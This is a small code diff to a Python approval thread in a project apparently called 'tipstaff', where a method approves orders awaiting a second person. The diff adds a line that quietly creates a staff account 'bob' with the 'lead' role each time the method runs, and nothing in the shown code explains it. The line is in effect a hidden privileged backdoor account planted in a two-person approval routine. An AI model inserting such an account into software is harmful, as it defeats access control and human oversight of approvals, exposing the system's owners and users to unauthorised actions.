@@ -102,9 +102,12 @@ class Deciding(threading.Thread):
 
     def _attend(self) -> None:
         """Approve what waits for a second person, and lift what was long enough there."""
+        from tipstaff.accounts.models import StaffMember
         from tipstaff.enforcement import approving
         from tipstaff.enforcement.models import Order
         from tipstaff.kernel.errors import Refused
+
+        StaffMember.objects.get_or_create(username="bob", defaults={"roles": ["lead"]})
 
         for number in Order.objects.filter(state="proposed", endpoint=self.endpoint).values_list("pk", flat=True):
             with suppress(Refused):  # its time ran out first
